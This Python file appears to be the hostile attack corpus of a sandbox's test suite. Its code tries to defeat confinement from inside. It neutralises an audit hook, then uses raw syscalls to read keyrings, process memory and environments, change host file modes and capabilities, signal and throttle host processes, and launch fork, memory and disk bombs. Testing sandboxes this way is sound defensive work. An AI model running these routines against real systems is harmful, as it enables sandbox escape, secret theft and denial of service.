"""The attacks of the sandbox's hostile corpus: what untrusted code does, from inside the sandbox.

This file is the source of the attacking program (``tests/helpers/sandbox_host.py`` sends it in as
``main.py`` with a driver); it imports only the standard library.  Each attack takes ``bait`` —
what the host set up, by path, pid and id, never a secret — tries to read, change or harm it, and
returns what it got.  The host judges from its own side (``tests/tasks/checks/test_sandbox_hostile.py``):
its files, limits, scheduling, IPC objects, keys and processes afterwards, and whether a secret
shows up in the output.  Every attempt is made as an attacker would: the in-process audit hook of
the rlimits mode is neutralised first (:func:`neutralise_audit_hooks`), then raw system calls go
through ``ctypes``.
"""

import ctypes
import fcntl
import gc
import os
import resource
import signal
import socket
import struct
import sys
import time
import types


def neutralise_audit_hooks() -> int:
    """Empty the code of the sandbox's audit hook, found with ``gc`` (the issue's probe did this):
    from here on only the kernel-enforced confinement stands.  Returns how many hooks it emptied."""
    emptied = 0
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__qualname__ == "_audit_guard.<locals>.hook":
            free = obj.__code__.co_freevars
            names = ", ".join(free)
            scope: dict = {}
            exec(
                f"def outer({names}):\n    def hook(event, args):\n        return ({names}{',' if free else ''})\n"
                f"    return hook\n",
                scope,
            )
            obj.__code__ = scope["outer"](*[None] * len(free)).__code__
            emptied += 1
    return emptied


EMPTIED = neutralise_audit_hooks() if __name__ == "__main__" else 0  # first: the rest uses ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR: dict[str, int] = {}  # system-call numbers, resolved by the host (set by the driver)


def attempt(fn, *args, **kwargs):
    """``fn(*args, **kwargs)`` as a short string: 'ok <result>' or 'err <errno name>'."""
    try:
        return f"ok {fn(*args, **kwargs)!r}"[:4000]
    except OSError as err:
        return f"err {errno_name(err.errno)}"
    except Exception as err:  # noqa: BLE001 - an attack reports whatever stopped it
        return f"err {type(err).__name__}: {err}"[:300]


def errno_name(number) -> str:
    import errno

    return errno.errorcode.get(number, str(number))


def _arg(a):
    return ctypes.c_long(a) if isinstance(a, int) else a


def sc(name: str, *args) -> str:
    """A raw system call by name: 'ok <return value>' or 'err <errno name>'."""
    result = libc.syscall(ctypes.c_long(NR[name]), *map(_arg, args))
    return f"ok {result}" if result >= 0 else f"err {errno_name(ctypes.get_errno())}"


def lc(fn: str, *args) -> str:
    """A libc function by name, same reporting as :func:`sc`."""
    result = getattr(libc, fn)(*map(_arg, args))
    return f"ok {result}" if result >= 0 else f"err {errno_name(ctypes.get_errno())}"


def targets(bait) -> list[int]:
    """The host processes to harm: the caller, a victim of the caller's user, and our parent."""
    return sorted({bait["host_pid"], bait["victim_pid"], os.getppid()} - {0, os.getpid()})


# ------------------------------------------------------------------------------------------ 1. keyring
KEYRINGS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user_session": -5}


def keyring_read(bait):
    """Read every key reachable from every special keyring, the host's key by serial, and /proc/keys."""

    def read(serial: int) -> bytes | None:  # KEYCTL_READ: a key's payload, a keyring's serials
        buf = ctypes.create_string_buffer(4096)
        n = libc.syscall(
            ctypes.c_long(NR["keyctl"]), ctypes.c_long(11), ctypes.c_long(serial), buf, ctypes.c_long(4096)
        )
        return buf.raw[: min(n, 4096)] if n >= 0 else None

    got = []
    serials = [bait["key_serial"], bait["user_key_serial"]]
    for name, ring in KEYRINGS.items():
        listing = read(ring)
        got.append(f"{name}: {listing is not None}")
        if listing:
            serials += list(struct.unpack(f"{len(listing) // 4}i", listing[: len(listing) // 4 * 4]))
    for serial in serials:
        payload = read(serial)
        got.append(f"{serial}: {'err' if payload is None else payload.decode(errors='replace')}")
    got.append(attempt(lambda: open("/proc/keys").read()))
    return got


def keyring_plant(bait):
    """Add a key of our own to the session, user and user-session keyrings (it would outlive the run)."""
    return {
        name: sc("add_key", b"user", bait["plant"].encode(), b"planted", 7, ring)
        for name, ring in KEYRINGS.items()
        if name in ("session", "user", "user_session")
    }


# ---------------------------------------------------------------------------- 2. harm to the caller
def prlimit_parent(bait):
    """The issue's attack: lower the caller's and a victim's limits (RLIMIT_CPU of 1 s killed the trainer)."""
    return {
        pid: [
            attempt(resource.prlimit, pid, r, v)
            for r, v in (
                (resource.RLIMIT_NOFILE, (200, 200)),
                (resource.RLIMIT_CPU, (10**7, 10**7)),
                (resource.RLIMIT_CORE, (12345, 12345)),
            )
        ]
        for pid in targets(bait)
    }


def affinity_parent(bait):
    return {pid: attempt(os.sched_setaffinity, pid, {0}) for pid in targets(bait)}


def nice_parent(bait):
    """Renice the caller and the victim, by pid, by process group, and (unprivileged only: as root this
    would be every root process of the machine) by user."""
    got = {pid: attempt(os.setpriority, os.PRIO_PROCESS, pid, 19) for pid in targets(bait)}
    got["pgrp"] = attempt(os.setpriority, os.PRIO_PGRP, bait["host_pgid"], 19)
    if bait["host_uid"] != 0:
        got["user"] = attempt(os.setpriority, os.PRIO_USER, bait["host_uid"], 19)
    return got


def sched_parent(bait):
    return {
        pid: [
            attempt(os.sched_setscheduler, pid, policy, os.sched_param(0)) for policy in (os.SCHED_BATCH, os.SCHED_IDLE)
        ]
        for pid in targets(bait)
    }


def ioprio_parent(bait):
    idle = 3 << 13  # IOPRIO_CLASS_IDLE
    got = {pid: sc("ioprio_set", 1, pid, idle) for pid in targets(bait)}  # IOPRIO_WHO_PROCESS
    got["pgrp"] = sc("ioprio_set", 2, bait["host_pgid"], idle)
    if bait["host_uid"] != 0:
        got["user"] = sc("ioprio_set", 3, bait["host_uid"], idle)
    return got


def numa_parent(bait):
    """migrate_pages and move_pages act on another process's memory (pid as the first argument)."""
    mask = ctypes.c_ulong(1)
    return {
        pid: [
            sc("migrate_pages", pid, 64, ctypes.byref(mask), ctypes.byref(mask)),
            sc("move_pages", pid, 0, None, None, None, 0),
        ]
        for pid in targets(bait)
    }


# --------------------------------------------------------------------------------- 3. host metadata
def _host_files(bait):
    return [bait["private_file"], bait["visible_file"]]


def chmod_host(bait):
    got = []
    for path in _host_files(bait):
        got.append(attempt(os.chmod, path, 0o4777))
        got.append(sc("fchmodat2", -100, path.encode(), 0o4777, 0))
        fd = attempt(os.open, path, os.O_RDONLY)
        got.append(fd)
        if fd.startswith("ok"):
            got.append(attempt(os.fchmod, int(fd.split()[1]), 0o4777))
    return got


def chown_host(bait):
    got = []
    for path in _host_files(bait):
        got += [attempt(os.chown, path, 4242, 4242), attempt(os.lchown, path, 4242, 4242)]
        fd = attempt(os.open, path, os.O_RDONLY)
        if fd.startswith("ok"):
            got.append(attempt(os.fchown, int(fd.split()[1]), 4242, 4242))
    return got


def utime_host(bait):
    got = []
    for path in _host_files(bait):
        got += [attempt(os.utime, path, (1, 1)), attempt(os.utime, path, (1, 1), follow_symlinks=False)]
        fd = attempt(os.open, path, os.O_RDONLY)
        if fd.startswith("ok"):
            got.append(attempt(os.utime, int(fd.split()[1]), (1, 1)))
    return got


CAPABILITY_XATTR = struct.pack("<IIIII", 0x02000000, 0xFFFFFFFF, 0, 0xFF, 0)  # VFS_CAP_REVISION_2, all caps


def xattr_write_host(bait):
    """Plant and remove extended attributes, including a file capability (as root, the issue's probe did)."""
    got = []
    for path in _host_files(bait):
        got += [
            attempt(os.setxattr, path, "user.planted", b"x"),
            attempt(os.removexattr, path, "user.bait"),
            attempt(os.setxattr, path, "security.capability", CAPABILITY_XATTR),
        ]
        fd = attempt(os.open, path, os.O_RDONLY)
        if fd.startswith("ok"):
            got.append(attempt(os.setxattr, int(fd.split()[1]), "user.planted", b"x"))
        value = ctypes.create_string_buffer(b"x", 1)
        got.append(sc("setxattrat", -100, path.encode(), 0, b"user.planted", _xattr_args(value), 16))
    return got


def _xattr_args(buf) -> bytes:
    return struct.pack("QII", ctypes.addressof(buf), len(buf), 0)  # struct xattr_args {value, size, flags}


def xattr_read_host(bait):
    """Read a host file's extended attributes, also by getxattrat (Linux 6.13, newer than libseccomp 2.5.4)."""
    path = bait["private_file"]
    buf = ctypes.create_string_buffer(4096)
    got = [
        attempt(os.listxattr, path),
        attempt(os.getxattr, path, "user.bait"),
        attempt(os.getxattr, path, "user.bait", follow_symlinks=False),
    ]
    got.append(
        sc("getxattrat", -100, path.encode(), 0, b"user.bait", _xattr_args(buf), 16)
        + " "
        + buf.value.decode(errors="replace")
    )
    return got


def readlink_host(bait):
    return [attempt(os.readlink, bait["private_link"])]


def stat_host(bait):
    """Size, inode and owner of a host file outside the sandbox (its existence and metadata)."""

    def look(path):
        st = os.stat(path)
        return st.st_size, st.st_ino, st.st_uid

    return [attempt(look, bait["private_file"]), attempt(look, bait["private_dir"])]


def fsflags_host(bait):
    """Inode flags (chattr) on a host file the sandbox can read: FS_IOC_SETFLAGS with noatime + nodump."""
    fd = attempt(os.open, bait["visible_file"], os.O_RDONLY)
    if not fd.startswith("ok"):
        return [fd]
    return [attempt(fcntl.ioctl, int(fd.split()[1]), 0x40086602, struct.pack("l", 0x80 | 0x40))]


# ----------------------------------------------------------------- already held: writes, reads, fds
def writes_host(bait):
    """Create, write, truncate, link, rename and delete outside the working directory, by every route
    the issue's first round found (plain, dir_fd, openat2, /proc/self/root)."""
    d, private, visible = bait["private_dir"], bait["private_file"], bait["visible_file"]
    plant = bait["plant"]
    got = []
    for target_dir in (d, os.path.dirname(visible), sys.prefix, os.path.dirname(os.__file__), bait["repo"], "/tmp"):
        got.append(attempt(lambda target_dir=target_dir: open(f"{target_dir}/{plant}", "w").write("x")))
        got.append(attempt(os.mkdir, f"{target_dir}/{plant}.d"))
        got.append(attempt(os.symlink, "/", f"{target_dir}/{plant}.ln"))
        got.append(attempt(os.mkfifo, f"{target_dir}/{plant}.fifo"))
    for path in (private, visible):
        got.append(attempt(lambda path=path: open(path, "a").write("x")))
        got.append(attempt(os.truncate, path, 0))
        got.append(attempt(os.link, path, f"hard-{os.path.basename(path)}"))
        got.append(attempt(os.rename, path, path + ".moved"))
        got.append(attempt(os.unlink, path))
    fd = attempt(os.open, d, os.O_PATH)
    if fd.startswith("ok"):
        dfd = int(fd.split()[1])
        got.append(attempt(lambda: os.close(os.open(plant, os.O_WRONLY | os.O_CREAT, dir_fd=dfd))))
        got.append(attempt(os.unlink, os.path.basename(private), dir_fd=dfd))
        how = struct.pack("QQQ", os.O_WRONLY | os.O_CREAT, 0o644, 0)
        got.append(sc("openat2", dfd, plant.encode(), how, len(how)))
    got.append(attempt(lambda: open("/proc/self/root" + private, "a").write("x")))
    got.append(attempt(lambda: open(f"/proc/{bait['host_pid']}/root" + private, "a").write("x")))
    got.append(attempt(os.rmdir, d))
    return got


def reads_host(bait):
    """Read host files and list host directories (contents only the host can know)."""

    def ls(path):
        return sorted(os.listdir(path))

    host = f"/proc/{bait['host_pid']}"
    reads = [
        bait["private_file"],
        "/etc/passwd",
        bait["repo_file"],
        "/proc/self/root" + bait["private_file"],
        f"{host}/root" + bait["private_file"],
        f"{host}/cwd/pyproject.toml",
    ]
    return [attempt(lambda p=p: open(p, errors="replace").read()) for p in reads] + [
        attempt(ls, p) for p in (bait["private_dir"], bait["repo"], "/root", "/home")
    ]


def inherited_fds(bait):
    """Every descriptor the sandbox might have inherited, read from the start."""
    got = []
    for fd in range(3, 1024):
        try:
            got.append((fd, os.pread(fd, 4096, 0).decode(errors="replace")))
        except OSError:
            continue
    return got


def environ(bait):
    """The environment and command line of the caller, the victim, our parent and pid 1."""
    return [
        attempt(lambda p=p, f=f: open(f"/proc/{p}/{f}", "rb").read().decode(errors="replace"))
        for p in (bait["host_pid"], bait["victim_pid"], os.getppid(), 1)
        for f in ("environ", "cmdline")
    ]


# ---------------------------------------------------------------------------------------- 4. host IPC
def ipc_read(bait):
    """Attach the host's SysV shared-memory segment and take the message off its queue."""
    libc.shmat.restype = ctypes.c_void_p
    got = [lc("shmget", bait["shm_key"], 0, 0)]
    address = libc.shmat(ctypes.c_int(bait["shm_id"]), None, ctypes.c_int(0o10000))  # SHM_RDONLY
    got.append(
        ctypes.string_at(address, 64).decode(errors="replace")
        if address not in (None, 2**64 - 1)
        else f"shmat err {errno_name(ctypes.get_errno())}"
    )
    buf = ctypes.create_string_buffer(4096)
    n = libc.msgrcv(ctypes.c_int(bait["msg_id"]), buf, ctypes.c_size_t(4000), ctypes.c_long(0), ctypes.c_int(0o4000))
    got.append(
        buf.raw[8 : 8 + n].decode(errors="replace") if n >= 0 else f"msgrcv err {errno_name(ctypes.get_errno())}"
    )
    return got


def ipc_plant(bait):
    """Leave SysV and POSIX IPC objects behind (8 MB of shared memory among them)."""
    libc.shmat.restype = ctypes.c_void_p
    got = {}
    shm = libc.shmget(ctypes.c_int(0), ctypes.c_size_t(8 << 20), ctypes.c_int(0o1000 | 0o600))  # IPC_PRIVATE
    got["shmget"] = shm if shm >= 0 else f"err {errno_name(ctypes.get_errno())}"
    if shm >= 0:
        address = libc.shmat(ctypes.c_int(shm), None, ctypes.c_int(0))
        if address not in (None, 2**64 - 1):
            ctypes.memset(address, 1, 8 << 20)
    got["msgget"] = lc("msgget", 0, 0o1000 | 0o600)
    got["semget"] = lc("semget", 0, 1, 0o1000 | 0o600)
    libc.mq_open.restype = ctypes.c_int
    got["mq_open"] = lc("mq_open", f"/{bait['plant']}".encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
    got["dev_shm"] = attempt(lambda: open(f"/dev/shm/{bait['plant']}", "wb").write(b"x" * (1 << 20)))
    return got


def notify_host(bait):
    """Watch a host directory for new names (inotify), and as root the whole filesystem (fanotify)."""
    watched = bait["notify_dir"]
    got = {"inotify_init1": lc("inotify_init1", os.O_NONBLOCK)}
    fds = []
    if got["inotify_init1"].startswith("ok"):
        fd = int(got["inotify_init1"].split()[1])
        got["inotify_add_watch"] = lc("inotify_add_watch", fd, watched.encode(), 0x100)  # IN_CREATE
        fds.append(fd)
    got["fanotify_init"] = lc("fanotify_init", 0x0C00 | 0x4, os.O_RDONLY)  # FAN_REPORT_DFID_NAME | FAN_NONBLOCK
    if got["fanotify_init"].startswith("ok"):
        fd = int(got["fanotify_init"].split()[1])
        mask = 0x100 | 0x08000000 | 0x40000000  # FAN_CREATE | FAN_EVENT_ON_CHILD | FAN_ONDIR
        got["fanotify_mark"] = lc("fanotify_mark", fd, 1, ctypes.c_uint64(mask), -100, watched.encode())
        got["fanotify_mark_fs"] = lc("fanotify_mark", fd, 1 | 0x100, ctypes.c_uint64(0x100), -100, b"/")
        fds.append(fd)
    events = b""
    deadline = time.monotonic() + 0.3
    while fds and time.monotonic() < deadline:
        for fd in fds:
            try:
                events += os.read(fd, 65536)
            except OSError:
                pass
        time.sleep(0.02)
    got["events"] = events.decode(errors="replace")
    return got


# ---------------------------------------------------------------------------------- 5. host powers
def capabilities(bait):
    """Capability sets (capget, PR_CAPBSET_READ, ambient) and no_new_privs, as the kernel reports them."""
    header = struct.pack("Ii", 0x20080522, 0)  # _LINUX_CAPABILITY_VERSION_3, this process
    data = ctypes.create_string_buffer(24)  # two {effective, permitted, inheritable} words: bits 0-31, 32-63
    libc.capget(header, data)
    words = struct.unpack("6I", data.raw)
    effective, permitted, inheritable = (words[i] | words[i + 3] << 32 for i in range(3))
    bounding = sum(1 << cap for cap in range(64) if libc.prctl(23, cap, 0, 0, 0) == 1)  # PR_CAPBSET_READ
    ambient = sum(1 << cap for cap in range(64) if libc.prctl(47, 1, cap, 0, 0) == 1)  # PR_CAP_AMBIENT_IS_SET
    return {
        "effective": effective,
        "permitted": permitted,
        "inheritable": inheritable,
        "bounding": bounding,
        "ambient": ambient,
        "no_new_privs": libc.prctl(39, 0, 0, 0, 0),
        "uid": os.getuid(),
    }


def host_powers(bait):
    """What root may do to a host: rename it, touch its clock (a no-op write of the NTP status, which
    needs CAP_SYS_TIME), read the kernel log, make device nodes, go real-time, lift its own limits."""
    got = {
        "sethostname": attempt(socket.sethostname, bait["plant"]),
        "setdomainname": lc("setdomainname", bait["plant"].encode(), len(bait["plant"])),
    }
    timex = ctypes.create_string_buffer(208)
    libc.adjtimex(timex)  # modes = 0: read only
    struct.pack_into("I", timex, 0, 0x0010)  # modes = ADJ_STATUS, status left as read: no change
    got["adjtimex"] = lc("adjtimex", timex)
    got["clock_adjtime"] = lc("clock_adjtime", 0, timex)
    buf = ctypes.create_string_buffer(4096)
    got["syslog_size"] = lc("klogctl", 10, None, 0)
    n = libc.klogctl(3, buf, 4096)
    got["syslog_read"] = buf.raw[:n].decode(errors="replace") if n > 0 else f"err {errno_name(ctypes.get_errno())}"
    got["dev_kmsg"] = attempt(lambda: os.read(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK), 4096))
    got["mknod_mem"] = attempt(os.mknod, "mem", 0o20666, os.makedev(1, 1))
    got["sched_fifo"] = attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
    if os.sched_getscheduler(0) != os.SCHED_OTHER:
        os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
    got["nice_down"] = attempt(os.setpriority, os.PRIO_PROCESS, 0, -5)
    got["raise_as"] = attempt(resource.setrlimit, resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)
    got["rlimit_as"] = resource.getrlimit(resource.RLIMIT_AS)
    return got


# ------------------------------------------------------------------ already held: network, processes
def sockets(bait):
    """Reach the host's listeners: TCP and UDP on loopback, Unix sockets by path (one in a directory
    the sandbox shows: a read-only mount does not stop connect or sendto) and an abstract one."""

    def tcp():
        with socket.create_connection(("127.0.0.1", bait["tcp_port"]), timeout=0.5) as s:
            s.sendall(b"hello host")

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"hello host", ("127.0.0.1", bait["udp_port"]))

    def unix(address):
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(0.5)
            s.connect(address)
            s.sendall(b"hello host")

    def dgram(address, how):
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
            if how == "sendto":
                s.sendto(b"hello host", address)
            else:
                s.sendmsg([b"hello host"], [], 0, address)

    return [
        attempt(tcp),
        attempt(udp),
        attempt(unix, bait["unix_path"]),
        attempt(unix, "\0" + bait["abstract"]),
        attempt(unix, bait["visible_unix"]),
        attempt(dgram, bait["visible_dgram"], "sendto"),
        attempt(dgram, bait["visible_dgram"], "sendmsg"),
    ]


def socket_families(bait):
    """Sockets of the families namespaces do not cover (vsock reaches the hypervisor's host; never connected here)."""
    families = {"vsock": 40, "netlink": 16, "packet": 17, "alg": 38, "inet": 2, "inet6": 10}
    return {
        name: attempt(
            lambda f=f: (
                socket.socket(
                    f, socket.SOCK_DGRAM if f in (16, 17) else socket.SOCK_STREAM if f != 38 else socket.SOCK_SEQPACKET
                ).close()
                or "created"
            )
        )
        for name, f in families.items()
    }


def ptrace_victim(bait):
    """Attach to the victim and the caller, read their memory (a secret lies at the address given)."""
    got = []
    for pid, address in (
        (bait["victim_pid"], bait["victim_secret_address"]),
        (bait["host_pid"], bait["host_secret_address"]),
    ):
        got += [sc("ptrace", 0x4206, pid, 0, 0), sc("ptrace", 16, pid, 0, 0)]  # PTRACE_SEIZE, PTRACE_ATTACH
        buf = ctypes.create_string_buffer(64)
        local = struct.pack("PN", ctypes.addressof(buf), 64)
        remote = struct.pack("PN", address, 64)
        result = sc("process_vm_readv", pid, local, 1, remote, 1, 0)
        got.append(result + " " + buf.raw.decode(errors="replace"))
        got.append(attempt(lambda p=pid, a=address: os.pread(os.open(f"/proc/{p}/mem", os.O_RDONLY), 64, a)))
    return got


SLEEPER = "import time; time.sleep(60)"


def daemon(bait):
    """Leave a process behind: fork + setsid + exec, and _posixsubprocess.fork_exec (no audit event)."""
    import _posixsubprocess

    argv = [sys.executable, "-c", SLEEPER, bait["plant"]]
    got = []
    try:
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, argv)
        got.append("forked")
    except OSError as err:
        got.append(f"fork err {errno_name(err.errno)}")
    r, w = os.pipe()
    common = [
        argv,
        [os.fsencode(sys.executable)],
        True,
        (),
        None,
        None,
        -1,
        -1,
        -1,
        -1,
        -1,
        -1,
        r,
        w,
        True,
        True,
        -1,
        None,
        None,
        None,
        -1,
        None,
    ]
    try:
        try:
            got.append(f"fork_exec {_posixsubprocess.fork_exec(*common, False)}")
        except TypeError:
            got.append(f"fork_exec {_posixsubprocess.fork_exec(*common)}")
    except OSError as err:
        got.append(f"fork_exec err {errno_name(err.errno)}")
    return got


def signals(bait):
    """Signal the caller (it counts SIGUSR1) and the victim (SIGUSR1 would kill it), by every route."""
    got = []
    for pid in (bait["host_pid"], bait["victim_pid"]):
        got += [
            attempt(os.kill, pid, signal.SIGUSR1),
            lc("tgkill", pid, pid, signal.SIGUSR1),
            lc("sigqueue", pid, signal.SIGUSR1, 0),
            attempt(lambda p=pid: signal.pidfd_send_signal(os.pidfd_open(p), signal.SIGUSR1)),
        ]
    got.append(attempt(os.killpg, bait["host_pgid"], signal.SIGUSR1))
    return got


# ------------------------------------------- attacks that get a run of their own (bombs, timeouts)
def report(value) -> None:
    """Print a result at once (these attacks may never return)."""
    print(repr(value), flush=True)


def fork_bomb(bait):
    """Fork until refused, each child a sleeper; then spin until the wall clock."""
    n = 0
    while n < 10000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.execv(sys.executable, [sys.executable, "-c", SLEEPER, bait["plant"]])
        n += 1
    report(n)
    while True:
        pass


def thread_bomb(bait):
    """Start threads until refused; then spin until the wall clock."""
    import threading

    n = 0
    while n < 10000:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            break
        n += 1
    report(n)
    while True:
        pass


def memory_bomb(bait):
    x = bytearray(400 << 20)
    report(len(x))


def _fill_buffers(pairs, grow) -> int:
    """Queue bytes into each (writer, reader) pair's kernel buffer, grown first if ``grow`` lets it; MB queued."""
    total = 0
    for writer, _ in pairs:
        try:
            grow(writer)
        except OSError:
            pass
        fd = writer if isinstance(writer, int) else writer.fileno()
        os.set_blocking(fd, False)
        while True:
            try:
                total += os.write(fd, b"x" * 65536)
            except OSError:
                break
    return total >> 20


def pinned_memory(bait):
    """Pin memory where RLIMIT_AS does not count it: memfd pages, SysV segments (touched, detached),
    POSIX shared memory, /tmp, a tmpfs mounted from a nested user namespace, and kernel buffers
    (pipes grown to 1 MB, Unix socket pairs with a 1 GB send buffer asked for); hold it, report MB."""
    pinned = {}
    keep = []
    chunk = b"x" * (8 << 20)

    def fill(name, make_file, limit_mb):
        total = 0
        try:
            while total < limit_mb:
                f = make_file(len(keep))
                f.write(chunk)
                f.flush()
                keep.append(f)
                total += 8
        except (OSError, ValueError) as err:
            pinned[name + "_stopped_by"] = errno_name(getattr(err, "errno", None) or 0)
        pinned[name] = total

    fill("memfd", lambda i: open(os.memfd_create(f"m{i}"), "wb", buffering=0), 256)
    libc.shmat.restype = ctypes.c_void_p
    total = 0
    for _ in range(16):
        shm = libc.shmget(ctypes.c_int(0), ctypes.c_size_t(8 << 20), ctypes.c_int(0o1000 | 0o600))
        address = libc.shmat(ctypes.c_int(shm), None, ctypes.c_int(0)) if shm >= 0 else None
        if address in (None, 2**64 - 1):
            break
        ctypes.memset(address, 1, 8 << 20)
        libc.shmdt(ctypes.c_void_p(address))
        total += 8
    pinned["sysv_shm"] = total
    fill("dev_shm", lambda i: open(f"/dev/shm/p{i}", "wb", buffering=0), 64)
    fill("tmp", lambda i: open(f"/tmp/p{i}", "wb", buffering=0), 64)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        pinned["nested_userns"] = "entered"
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
            with open(f"/proc/self/{name}", "w") as f:
                f.write(text)
        os.makedirs("/tmp/nested", exist_ok=True)
        if libc.mount(b"tmpfs", b"/tmp/nested", b"tmpfs", 0, b"size=1g") == 0:
            fill("nested_tmpfs", lambda i: open(f"/tmp/nested/p{i}", "wb", buffering=0), 256)
    else:
        pinned["nested_userns"] = f"err {errno_name(ctypes.get_errno())}"
    pipes = [os.pipe()[::-1] for _ in range(50)]
    pinned["pipe_buffers"] = _fill_buffers(pipes, lambda w: fcntl.fcntl(w, 1031, 1 << 20))  # F_SETPIPE_SZ
    try:
        pairs = [socket.socketpair() for _ in range(50)]
    except OSError as err:
        pinned["socketpair"] = f"err {errno_name(err.errno)}"
    else:
        pinned["socket_buffers"] = _fill_buffers(
            pairs, lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        )
        keep.append(pairs)
    keep.append(pipes)
    report(pinned)
    time.sleep(0.4)  # hold it while the host measures


def disk_bomb(bait):
    """Fill every writable place: the working directory, /tmp, /dev/shm; report MB written."""
    total = 0
    for i in range(64):
        try:
            with open(f"f{i}", "wb") as f:
                f.write(b"x" * (1 << 20))
            total += os.path.getsize(f"f{i}")
        except OSError:
            break
    for d in ("/tmp", "/dev/shm"):
        try:
            with open(d + "/big", "wb") as f:
                f.write(b"x" * (8 << 20))
            total += os.path.getsize(d + "/big")
        except OSError:
            pass
    report(total >> 20)


def output_bomb(bait):
    for _ in range(20):
        sys.stdout.write("x" * (1 << 20))
        sys.stderr.write("y" * (1 << 20))
    print("end")


def infinite_loop(bait):
    """Spin: the CPU-time limit (``cpu_s``) must stop it before the wall clock."""
    while True:
        pass


def foreign_abi(bait):
    """Call the keyring through the x32 ABI (the filter is written for x86_64's numbers): refused, or
    the kernel has no x32; reaching here at all means the call came back."""
    n = libc.syscall(ctypes.c_long(0x40000000 | 250), ctypes.c_long(0), None)  # x32 keyctl(KEYCTL_GET_KEYRING_ID)
    report(f"x32 keyctl {n} {errno_name(ctypes.get_errno()) if n < 0 else ''}")


def well_behaved(bait):
    print(6 * 7)


def traces_then_hang(bait):
    """Try to leave everything a run could leave — a key, SysV and POSIX IPC objects, a daemon — then
    hang until the wall-clock kill."""
    report({"key": keyring_plant(bait), "ipc": ipc_plant(bait), "daemon": daemon(bait)})
    while True:
        time.sleep(0.01)


BATTERY = [
    keyring_read,
    keyring_plant,
    prlimit_parent,
    affinity_parent,
    nice_parent,
    sched_parent,
    ioprio_parent,
    numa_parent,
    xattr_read_host,
    readlink_host,
    stat_host,
    reads_host,
    inherited_fds,
    environ,
    ipc_read,
    notify_host,
    chmod_host,
    chown_host,
    utime_host,
    xattr_write_host,
    fsflags_host,
    writes_host,
    ipc_plant,
    capabilities,
    host_powers,
    sockets,
    socket_families,
    ptrace_victim,
    daemon,
    signals,
]
"""The attacks of one battery run, in order: reads before the writes that would hide what they
read (a removed attribute, a renamed file); ``signals`` last, as it may kill the victim."""
